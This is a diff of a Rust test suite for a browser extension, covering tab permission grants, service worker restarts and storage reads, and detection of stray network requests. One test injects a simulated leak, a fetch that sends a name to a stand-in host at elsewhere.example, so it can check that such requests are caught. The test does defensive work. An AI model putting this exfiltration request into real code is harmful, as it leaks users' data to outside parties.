@@ -39,10 +39,9 @@ async fn invoking_the_action_grants_the_tab_and_no_other() -> Result<()> {
     browser.close(popup).await?;
     // The control: the popup's own page, opened otherwise, in front of a tab on which the action was not invoked.
     browser.front(&other).await?;
-    let worker = browser.worker().await?;
     let read =
         "chrome.tabs.query({ active: true }).then(([tab]) => chrome.scripting.executeScript({ target: { tabId: tab.id }, func: () => 1 }))";
-    let refusal = worker.evaluate(read).await.expect_err("nothing was granted on this tab");
+    let refusal = browser.in_worker(read).await.expect_err("nothing was granted on this tab");
     assert!(refusal.to_string().contains("Cannot access contents"), "{refusal}");
     Ok(())
 }
@@ -52,7 +51,7 @@ async fn opening_the_popup_by_the_interface_grants_nothing() -> Result<()> {
     let (_server, browser) = start().await?;
     let calendar = browser.open(WEEK).await?;
     browser.front(&calendar).await?;
-    browser.worker().await?.evaluate("chrome.action.openPopup()").await?;
+    browser.in_worker("chrome.action.openPopup()").await?;
     let popup = browser.popup().await?;
     popup.sees("refused: Cannot access contents").await
 }
@@ -74,6 +73,8 @@ async fn a_killed_worker_starts_anew_and_storage_is_read_without_waking_it() -> 
     let (_server, browser) = start().await?;
     let calendar = browser.open(WEEK).await?;
     let popup = browser.click_action(&calendar).await?;
+    // What it read comes above the button, and moves it.
+    popup.sees("read:").await?;
     popup.press("Wake the worker").await?;
     popup.sees("worker: start 1").await?;
     browser.close(popup).await?;
@@ -81,8 +82,14 @@ async fn a_killed_worker_starts_anew_and_storage_is_read_without_waking_it() -> 
     assert_eq!(browser.storage().await?["starts"], 1);
     assert!(!browser.worker_runs().await?, "reading the storage woke the worker");
     let popup = browser.click_action(&calendar).await?;
+    popup.sees("read:").await?;
     popup.press("Wake the worker").await?;
-    popup.sees("worker: start 2").await
+    popup.sees("worker: start 2").await?;
+    browser.close(popup).await?;
+    browser.kill_worker().await?;
+    let third = "started.then(() => chrome.storage.local.get('starts')).then(({ starts }) => starts)";
+    assert_eq!(browser.in_worker(third).await?, 3, "a worker that sleeps is started");
+    Ok(())
 }
 
 #[tokio::test(flavor = "multi_thread")]
@@ -92,7 +99,7 @@ async fn every_request_is_seen_and_the_pages_make_no_strange_one() -> Result<()>
     assert_eq!(server.strangers(), [], "before anything strange was done");
     // The answer is not waited for: what counts is that the request is seen.
     let leak = "void fetch('http://elsewhere.example/leak?name=Jane').catch(() => null)";
-    browser.worker().await?.evaluate(leak).await?;
+    browser.in_worker(leak).await?;
     wait_until("the worker's request", async || Ok((!server.strangers().is_empty()).then_some(()))).await?;
     let strange: BTreeSet<String> = server
         .strangers()
